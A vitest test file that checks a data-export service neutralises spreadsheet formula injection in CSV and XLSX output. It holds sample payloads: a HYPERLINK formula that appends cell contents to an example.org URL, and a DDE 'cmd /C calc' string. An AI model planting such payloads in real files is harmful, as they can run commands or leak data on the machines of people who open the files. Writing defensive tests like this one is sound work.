import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openTestServer, type TestServer } from '../support/test-server.js';
import { event, readCsv, readXlsx, recordIn, unzipped, urlOf } from './export-support.js';

const HYPERLINK = '=HYPERLINK("https://example.org/?"&A1;"Klik hier")';
const COMMAND = " @SUM(1+1)*cmd|' /C calc'!A0";
const WITHIN = 'Zorg;=1+1';

const grounds = { reason: null, evidence: [] };
const label = (nl: string) => ({ nl, en: null });

/** A region and a scale that were named by somebody with spreadsheets in mind. */
const history = [
  event('scale-mood', 'ScaleDefined', {
    key: 'mood',
    subjectKind: 'REGION',
    kind: 'NOMINAL',
    label: label('+1'),
    levels: [
      { key: 'good', label: label(HYPERLINK), definition: null },
      { key: 'bad', label: label(COMMAND), definition: null },
      { key: 'plain', label: label(WITHIN), definition: null },
    ],
  }),
  event('organisation-office', 'OrganisationRegistered', { key: 'office', registeredOn: '2018-01-01', ...grounds }),
  event('organisation-office', 'OrganisationNamed', { name: '-2+3', effectiveOn: '2018-01-01', ...grounds }),
  event('region-north', 'RegionRegistered', { key: 'north', registeredOn: '2018-01-01', ...grounds }),
  event('region-north', 'RegionNamed', { name: HYPERLINK, effectiveOn: '2018-01-01', ...grounds }),
  event('region-north', 'StatusStated', {
    scale: 'mood',
    level: 'good',
    effectiveOn: '2020-01-01',
    basis: 'OBSERVED',
    ...grounds,
  }),
];

let server: TestServer;
beforeAll(async () => {
  server = await openTestServer({ history: 'NONE', prepare: (log) => recordIn(log, ...history) });
});
afterAll(() => server.close());

const filter = { nameContains: '=HYPERLINK' };
const asked = { subjects: 'REGION', rows: 'mood', columns: { moments: [{ asOf: '2020-06-01' }] }, filter };

describe('text that looks like a formula', () => {
  it('gets an apostrophe before it in CSV, and is otherwise as it was', async () => {
    const response = await fetch(server.url + urlOf('/export/cross-tab.csv', asked));
    expect(response.status).toBe(200);
    const { rows } = readCsv(await response.text());
    expect(rows.map((row) => row[1])).toEqual(['Niveau', `'${HYPERLINK}`, `'${COMMAND}`, "Zorg;'=1+1", 'Totaal']);
    expect(rows.map((row) => row[2])).toEqual(['2020-06-01', '1', '0', '0', '1']);
  });

  it('is text in a workbook, character by character', async () => {
    const response = await fetch(server.url + urlOf('/export/cross-tab.xlsx', asked));
    const bytes = await response.arrayBuffer();
    const { rows, notes } = await readXlsx(bytes);
    expect(rows.map((row) => row[1])).toEqual(['Niveau', HYPERLINK, COMMAND.trim(), WITHIN, 'Totaal']);
    expect(notes.get('Filter')).toEqual([JSON.stringify(filter)]);
    const worksheets = [...unzipped(Buffer.from(bytes))].filter(([name]) => name.startsWith('xl/worksheets/sheet'));
    expect(worksheets).toHaveLength(2);
    for (const [, content] of worksheets) expect(content).not.toMatch(/<f[ >]/);
  });

  it('is guarded in headings and notes too', async () => {
    const both = { ...asked, columns: 'care-office', at: { asOf: '2020-06-01' } };
    const { rows } = readCsv(await (await fetch(server.url + urlOf('/export/cross-tab.csv', both))).text());
    expect(rows[0]).toContain("'-2+3");
    expect(rows[0]).toContain("'-2+3 (aandeel)");
    const sides = { scale: 'mood', from: { asOf: '2020-01-01' }, to: { asOf: '2020-06-01' } };
    const { notes } = readCsv(await (await fetch(server.url + urlOf('/export/comparison.csv', sides))).text());
    expect(notes.get('Schaal')).toEqual(['mood', "'+1"]);
  });

  it('leaves numbers below zero alone', async () => {
    const sides = { scale: 'mood', from: { asOf: '2020-06-01' }, to: { asOf: '2019-06-01' } };
    const { rows } = readCsv(await (await fetch(server.url + urlOf('/export/comparison.csv', sides))).text());
    expect(rows[1]?.slice(2, 5)).toEqual(['1', '0', '-1']);
  });
});
